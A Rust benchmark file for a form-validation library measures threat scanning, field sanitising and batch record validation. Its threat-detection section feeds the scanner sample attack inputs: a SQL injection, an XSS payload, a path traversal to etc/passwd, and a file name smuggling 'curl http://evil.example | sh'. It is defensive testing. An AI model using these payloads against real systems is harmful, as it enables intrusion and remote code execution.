/// Validation pipeline benchmarks
/// Measures threat scanning, single-field validation and whole-record validation
use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion, Throughput};
use serde_json::json;
use std::hint::black_box;

use field_guard::security::{detect_threat, sanitize_value};
use field_guard::{
    validate_batch, validate_form, validate_input, FieldSpec, FieldType, FormData, FormSchema,
    RuleOverrides,
};

fn employee_schema() -> FormSchema {
    FormSchema::new("employee")
        .field_spec("name", FieldSpec::new(FieldType::Name).required())
        .field_spec("email", FieldSpec::new(FieldType::Email).required())
        .field("phone", FieldType::Phone)
        .field_spec(
            "age",
            FieldSpec::new(FieldType::Integer)
                .with_overrides(RuleOverrides::new().min_value(16).max_value(100)),
        )
        .field("salary", FieldType::Currency)
        .field("hired_on", FieldType::Date)
        .field_spec("status", FieldSpec::new(FieldType::Status).with_default("active"))
}

fn employee_record(i: usize) -> FormData {
    let value = json!({
        "name": "María José García-López",
        "email": format!("employee{}@example.com", i),
        "phone": "+34 600 123 456",
        "age": 20 + (i % 40),
        "salary": "$52,000.50",
        "hired_on": "15/03/2021",
    });
    match value {
        serde_json::Value::Object(map) => map,
        _ => unreachable!(),
    }
}

fn threat_detection_benchmarks(c: &mut Criterion) {
    let mut group = c.benchmark_group("threat_detection");

    for size in [16usize, 256, 4096].iter() {
        let clean: String = "Bolts 3/8 inch, box of 50. ".chars().cycle().take(*size).collect();
        group.throughput(Throughput::Bytes(clean.len() as u64));
        group.bench_with_input(BenchmarkId::new("clean", size), &clean, |b, input| {
            b.iter(|| detect_threat(black_box(input)))
        });
    }

    let attacks = [
        ("sql", "x' OR '1'='1"),
        ("xss", "<img src=x onerror=alert(1)>"),
        ("traversal", "..%2f..%2fetc%2fpasswd"),
        ("command", "report.pdf; curl http://evil.example | sh"),
    ];
    for (name, payload) in attacks.iter() {
        group.bench_with_input(BenchmarkId::new("attack", name), payload, |b, input| {
            b.iter(|| detect_threat(black_box(input)))
        });
    }

    group.finish();
}

fn field_validation_benchmarks(c: &mut Criterion) {
    let mut group = c.benchmark_group("field_validation");

    let cases = [
        (FieldType::Email, "  Ana.Perez@Example.COM "),
        (FieldType::Currency, "$1,234,567.899"),
        (FieldType::Date, "31/12/2024"),
        (FieldType::Description, "Hex bolt M8 x 40\nZinc plated, box of 100"),
        (FieldType::Filename, "../uploads/Quarterly Report?.pdf"),
    ];

    for (field_type, raw) in cases.iter() {
        group.bench_with_input(
            BenchmarkId::new("validate_input", field_type),
            raw,
            |b, raw| b.iter(|| validate_input(black_box(Some(*raw)), *field_type, "field", None)),
        );
    }

    group.bench_function("sanitize_currency", |b| {
        b.iter(|| sanitize_value(FieldType::Currency, black_box("$1,234.565")))
    });

    group.finish();
}

fn form_validation_benchmarks(c: &mut Criterion) {
    let mut group = c.benchmark_group("form_validation");
    let schema = employee_schema();

    let record = employee_record(0);
    group.bench_function("validate_form", |b| {
        b.iter(|| validate_form(black_box(&record), &schema))
    });

    for size in [10usize, 100].iter() {
        let records: Vec<FormData> = (0..*size).map(employee_record).collect();
        group.throughput(Throughput::Elements(*size as u64));
        group.bench_with_input(BenchmarkId::new("validate_batch", size), &records, |b, records| {
            b.iter(|| validate_batch(black_box(records), &schema))
        });
    }

    group.finish();
}

criterion_group!(
    benches,
    threat_detection_benchmarks,
    field_validation_benchmarks,
    form_validation_benchmarks
);
criterion_main!(benches);
